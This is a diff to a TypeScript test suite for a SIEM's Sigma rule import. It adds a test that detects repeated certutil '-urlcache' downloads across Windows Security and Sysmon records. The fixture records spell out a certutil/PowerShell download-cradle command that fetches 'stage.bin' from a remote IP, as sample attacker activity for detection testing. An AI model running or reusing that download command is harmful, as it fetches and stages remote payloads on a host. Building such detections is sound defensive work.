@@ -100,6 +100,18 @@ describe("Sigma import", () => {
     }
   };
 
+  /** Ingests records of one connector through the gateway, every one of them accepted. */
+  const ingestRecords = async (tenant: string, connector: ConnectorKind, records: object[]) => {
+    const result = ok(
+      await platform.request(
+        IngestEventsDocument,
+        { connector, records },
+        await platform.token([Role.INGESTOR], tenant),
+      ),
+    ).ingestEvents;
+    expect(result.acceptedCount).toBe(records.length);
+  };
+
   /** The source event ids of the events in a rule's alerts. */
   const alertedIds = (tenant: string, ruleId: string) =>
     inTenant(ds, tenant, async (m) =>
@@ -362,6 +374,134 @@ describe("Sigma import", () => {
         ],
       },
       expect.objectContaining({ title: "Whoami Utility Execution" }),
+    ]);
+  });
+
+  it("runs a process_creation aggregation by Image over 4688 and Sysmon records together, grouping one image from both connectors", async () => {
+    const tenant = "sigma-process-count-sources";
+    const yaml = `title: Certutil downloads repeated on one host
+id: 8192a3b4-c5d6-4e7f-8091-a2b3c4d5e6f7
+logsource:
+  category: process_creation
+  product: windows
+detection:
+  selection:
+    CommandLine|contains: '-urlcache'
+  timeframe: 1h
+  condition: selection | count() by Computer, Image > 3
+level: medium
+`;
+    const [result] = (await imported(tenant, yaml, { enabled: true })).results;
+    expect([result.status, result.problems]).toEqual(["CREATED", []]);
+    const rule = result.rule!;
+    // Image is NewProcessName in a 4688 record and Image in Sysmon's event 1: an alias reads each one's own.
+    expect(rule.definition.summarize).toEqual({
+      by: ["device", "Image"],
+      aggregate: "COUNT",
+      field: null,
+      filters: null,
+      aliases: [
+        {
+          name: "Image",
+          cases: [
+            {
+              when: {
+                all: [
+                  { field: "connector", op: "eq", value: "WINDOWS_SECURITY" },
+                  { field: "class_uid", op: "eq", value: 1007 },
+                ],
+              },
+              field: "attributes.event_data.NewProcessName",
+            },
+            {
+              when: {
+                all: [
+                  { field: "connector", op: "eq", value: "WINDOWS_SYSMON" },
+                  { field: "operation", op: "eq", value: "1" },
+                ],
+              },
+              field: "attributes.event_data.Image",
+            },
+          ],
+        },
+      ],
+    });
+
+    const host = "WS-7.corp.contoso.com";
+    const certutil = "C:\\Windows\\System32\\certutil.exe";
+    const powershell = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
+    const cmd = (image: string) =>
+      `${image} -urlcache -split -f http://198.51.100.23/stage.bin C:\\Users\\Public\\stage.bin`;
+    const system = (id: number, minute: number) => ({
+      EventID: id,
+      TimeCreated: { SystemTime: `2026-11-20T09:${String(minute).padStart(2, "0")}:00.000Z` },
+      Computer: host,
+    });
+    // The 4688 fixture's certutil download on the jump host, as other runs on this host.
+    const [created] = parseNdjson(readFileSync("test/fixtures/siem/WINDOWS_SECURITY.ndjson", "utf8")).flatMap(
+      (line) =>
+        "value" in line && get(line.value, "EventData", "NewProcessName") === certutil
+          ? [line.value as { EventData: object }]
+          : [],
+    );
+    const security = (record: number, minute: number, image: string) => ({
+      ...created,
+      ...system(4688, minute),
+      EventRecordID: record,
+      EventData: { ...created.EventData, NewProcessName: image, CommandLine: cmd(image) },
+    });
+    const sysmon = (record: number, minute: number, image: string) => ({
+      ...system(1, minute),
+      EventRecordID: record,
+      Channel: "Microsoft-Windows-Sysmon/Operational",
+      Provider: { Name: "Microsoft-Windows-Sysmon" },
+      EventData: {
+        ProcessId: "8044",
+        Image: image,
+        CommandLine: cmd(image),
+        User: "CORP\\adele.vance",
+        ParentImage: "C:\\Windows\\explorer.exe",
+      },
+    });
+    const ingest = (connector: ConnectorKind, records: object[]) => ingestRecords(tenant, connector, records);
+    const at = new Date("2026-11-20T10:00:00Z");
+    // Two certutil and two PowerShell downloads in the Security log: neither crosses the threshold alone.
+    await ingest("WINDOWS_SECURITY", [
+      security(101, 1, certutil),
+      security(102, 2, certutil),
+      security(103, 3, powershell),
+      security(104, 4, powershell),
+    ]);
+    expect(await run(tenant, rule.id, at)).toEqual({ alerts: 0, results: 0 });
+    // Sysmon's event 1 of two more certutil runs makes four of it; one PowerShell run makes three of that.
+    await ingest("WINDOWS_SYSMON", [
+      sysmon(201, 10, certutil),
+      sysmon(202, 11, certutil),
+      sysmon(203, 12, powershell),
+    ]);
+    expect(await run(tenant, rule.id, at)).toEqual({ alerts: 1, results: 1 });
+    const alerts = await inTenant(ds, tenant, (m) =>
+      m.query(`SELECT title, entities FROM alerts WHERE rule_id = $1`, [rule.id]),
+    );
+    expect(alerts).toEqual([
+      {
+        title: `Certutil downloads repeated on one host — ${host}, ${certutil}`,
+        entities: [{ type: "HOST", value: host }],
+      },
+    ]);
+    const evidence = await inTenant(ds, tenant, (m) =>
+      m.query(
+        `SELECT e.connector, e.source_event_id FROM alerts a CROSS JOIN LATERAL unnest(a.evidence_event_ids) AS ev(id)
+         JOIN events e ON e.id = ev.id WHERE a.rule_id = $1 ORDER BY e.time`,
+        [rule.id],
+      ),
+    );
+    const id = (record: number) => `${host.toLowerCase()}:${record}`;
+    expect(evidence).toEqual([
+      { connector: "WINDOWS_SECURITY", source_event_id: id(101) },
+      { connector: "WINDOWS_SECURITY", source_event_id: id(102) },
+      { connector: "WINDOWS_SYSMON", source_event_id: id(201) },
+      { connector: "WINDOWS_SYSMON", source_event_id: id(202) },
     ]);
   });
 
@@ -1007,16 +1147,7 @@ level: high
       client: { ipAddress: "198.51.100.20" },
       outcome: { result, reason: result === "FAILURE" ? "INVALID_CREDENTIALS" : null },
     });
-    const ingest = async (connector: ConnectorKind, records: object[]) => {
-      const result = ok(
-        await platform.request(
-          IngestEventsDocument,
-          { connector, records },
-          await platform.token([Role.INGESTOR], tenant),
-        ),
-      ).ingestEvents;
-      expect(result.acceptedCount).toBe(records.length);
-    };
+    const ingest = (connector: ConnectorKind, records: object[]) => ingestRecords(tenant, connector, records);
     await ingest("ENTRA_SIGNIN", [
       entra("xs-entra-alice-1", 1, "alice@contoso.com"),
       entra("xs-entra-alice-2", 12, "alice@contoso.com"),
